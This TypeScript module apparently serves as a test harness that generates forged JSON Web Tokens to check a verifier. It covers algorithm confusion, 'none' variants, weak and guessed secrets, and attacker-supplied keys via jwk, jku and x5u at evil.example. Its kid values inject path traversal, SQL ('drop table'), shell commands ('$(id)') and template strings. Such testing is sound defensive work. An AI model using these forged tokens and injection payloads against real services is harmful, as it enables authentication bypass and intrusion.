import { createSign, generateKeyPairSync } from 'node:crypto';
import { forge, hmac, segment } from './token-attacks-forge.ts';
import type { Attack, Target } from './token-attacks-forge.ts';

const none = [
  'none',
  'None',
  'NONE',
  'nOnE',
  'nonE',
  'NonE',
  ' none',
  'none ',
  'none\u0000',
  '\tnone',
  'n\u043ene',
  'nοne',
];
const algorithms: unknown[] = [
  ...none,
  ...['', null, 0, true, [], ['HS256'], ['none'], {}, { alg: 'HS256' }],
  ...[
    'hs256',
    'Hs256',
    'HS256 ',
    ' HS256',
    'HS256\u0000',
    'ＨＳ２５６',
    'HS-256',
    'HMAC',
    'HmacSHA256',
    'SHA256',
    'HS1',
  ],
  ...[
    'HS384',
    'HS512',
    'RS256',
    'RS384',
    'RS512',
    'PS256',
    'PS512',
    'ES256',
    'ES256K',
    'ES384',
    'ES512',
    'EdDSA',
    'Ed25519',
  ],
  ...['dir', 'A128KW', 'A256GCM', 'RSA-OAEP', 'ECDH-ES', 'PBES2-HS256+A128KW', '__proto__', 'constructor', 'toString'],
];

const signatureOf = (token: string): string => token.slice(token.lastIndexOf('.') + 1);

/** Another algorithm, each unsigned, with a signature from elsewhere, and with the right key's. */
export const otherAlgorithms = (target: Target): Attack[] => {
  const { alg: _, ...withoutAlg } = target.header;
  const headers = [withoutAlg, ...algorithms.map((alg) => ({ ...target.header, alg }))];
  return headers.flatMap((header) => {
    const input = `${segment(header)}.${segment(target.claims)}`;
    const signatures = {
      nothing: '',
      'a dash': '-',
      'the genuine signature': signatureOf(target.token),
      HS256: hmac(target.key, input),
    };
    const long = { HS384: hmac(target.key, input, 'sha384'), HS512: hmac(target.key, input, 'sha512') };
    const isLong = header['alg'] === 'HS384' || header['alg'] === 'HS512';
    return Object.entries({ ...signatures, ...(isLong ? long : {}) }).map(([name, signature]) => ({
      name: `alg ${JSON.stringify(header['alg'])} signed with ${name}`,
      token: `${input}.${signature}`,
    }));
  });
};

/** Public keys as shared secrets, and secrets that people use. */
export const otherKeys = (target: Target, unknownKeys: Record<string, Buffer>): Attack[] => {
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const asymmetric = (
    [
      ['RS256', rsa.privateKey],
      ['ES256', ec.privateKey],
    ] as const
  ).map(([alg, key]) => {
    const input = `${segment({ ...target.header, alg })}.${segment(target.claims)}`;
    const signature = createSign('sha256').update(input).sign({ key, dsaEncoding: 'ieee-p1363' });
    return { name: `${alg} with a key of one's own`, token: `${input}.${signature.toString('base64url')}` };
  });
  const publicKeys = [rsa.publicKey, ec.publicKey].flatMap((key) => {
    const pem = key.export({ type: 'spki', format: 'pem' }).toString();
    return [pem, pem.trim(), pem.replaceAll('\n', '\r\n'), key.export({ type: 'spki', format: 'der' })];
  });
  const secrets: (Buffer | string)[] = [
    ...publicKeys,
    ...[
      '',
      '\0',
      ' ',
      'secret',
      'password',
      'changeme',
      'your-256-bit-secret',
      'your-secret-key',
      'null',
      'undefined',
      'test',
      'k1',
    ],
    ...[String(target.claims['iss']), String(target.claims['client_id']), String(target.header['kid'])],
    target.key.toString('base64url'),
    target.key.toString('hex'),
    target.key.toString('base64'),
    Buffer.alloc(32),
    target.key.subarray(0, 31),
    Buffer.concat([target.key, Buffer.from([1])]),
  ];
  return [
    ...asymmetric,
    ...secrets.map((key, position) => ({ name: `HS256 with guessed key ${position}`, token: forge(target, { key }) })),
    ...Object.entries(unknownKeys).flatMap(([kid, key]) => [
      { name: `the key ${kid} under its own name`, token: forge(target, { key, header: { ...target.header, kid } }) },
      { name: `the key ${kid} under a name in use`, token: forge(target, { key }) },
    ]),
  ];
};

const kids: unknown[] = [
  ...['', ' ', 'K1', 'k1 ', ' k1', 'k1\u0000', 'k1\n', 'k', 'k11', 'к1', 'k１', '*', '%6b1', 'k1,k2', 'k0', 'k2'],
  ...[
    '../../../../../../dev/null',
    '/dev/null',
    '/proc/sys/kernel/randomize_va_space',
    'file:///dev/null',
    '..\\..\\nul',
    'C:\\nul',
  ],
  ...[
    "' OR '1'='1",
    "k1' --",
    "x' UNION SELECT 'secret' --",
    '"; drop table portal_session; --',
    '$(id)',
    '`id`',
    '|id',
    '{{7*7}}',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '0',
    '-1',
    'length',
    'https://evil.example/jwks.json',
    'k'.repeat(1000),
  ],
  ...[null, 0, 1, true, false, [], ['k1'], [['k1']], {}, { kid: 'k1' }, { $ne: null }, { $gt: '' }],
];

/** Names of keys that lead elsewhere, signed with what they would lead to. */
export const otherKeyNames = (target: Target): Attack[] => {
  const { kid: _, ...withoutKid } = target.header;
  return [withoutKid, ...kids.map((kid) => ({ ...target.header, kid }))].flatMap((header) =>
    Object.entries({
      'the right key': target.key,
      'an empty key': '',
      'a zero byte': Buffer.alloc(1),
      '"secret"': 'secret',
    }).map(([name, key]) => ({
      name: `kid ${JSON.stringify(header['kid'])} under ${name}`,
      token: forge(target, { header, key }),
    })),
  );
};

/** Keys brought along, extensions that must be understood, and other kinds of token. */
export const otherHeaders = (target: Target): Attack[] => {
  const own = Buffer.from('a key of the attacker, 32 bytes.');
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ format: 'jwk' });
  const members: Record<string, unknown>[] = [
    { jwk: { kty: 'oct', k: own.toString('base64url') } },
    { jwk: { kty: 'oct', k: own.toString('base64url'), kid: target.header['kid'], alg: 'HS256' } },
    { jwk: rsa },
    { jwk: {} },
    { jku: 'https://evil.example/jwks.json' },
    { jku: `${String(target.claims['iss'])}@evil.example/jwks.json` },
    { x5u: 'https://evil.example/chain.pem' },
    { x5c: ['MIIBIjANBg=='] },
    { x5t: 'AAAA' },
    { 'x5t#S256': 'AAAA' },
    { crit: [] },
    { crit: ['exp'] },
    { crit: ['b64'], b64: false },
    { crit: ['b64'], b64: true },
    { crit: ['http://evil.example'], 'http://evil.example': 1 },
    { b64: false },
    { zip: 'DEF' },
    { cty: 'JWT' },
    { enc: 'A256GCM' },
    { p2c: 2 ** 31 },
    { epk: {} },
    { iss: target.claims['iss'] },
    { exp: 2 ** 31 },
    { constructor: {} },
    { '': '' },
  ];
  const types = [
    'JWT',
    'jwt',
    'at+JWT',
    'AT+JWT',
    'application/at+jwt',
    'at+jwt ',
    'at jwt',
    'id+jwt',
    'logout+jwt',
    'dpop+jwt',
    'JOSE',
    '',
    null,
    1,
    ['at+jwt'],
  ];
  const { typ: _, ...withoutTyp } = target.header;
  return [
    ...members.flatMap((member) =>
      Object.entries({ 'the right key': target.key, "the attacker's": own }).map(([name, key]) => ({
        name: `header ${JSON.stringify(member).slice(0, 60)} under ${name}`,
        token: forge(target, { header: { ...target.header, ...member }, key }),
      })),
    ),
    ...[withoutTyp, ...types.map((typ) => ({ ...target.header, typ }))].map((header) => ({
      name: `typ ${JSON.stringify(header['typ'])}`,
      token: forge(target, { header }),
    })),
  ];
};
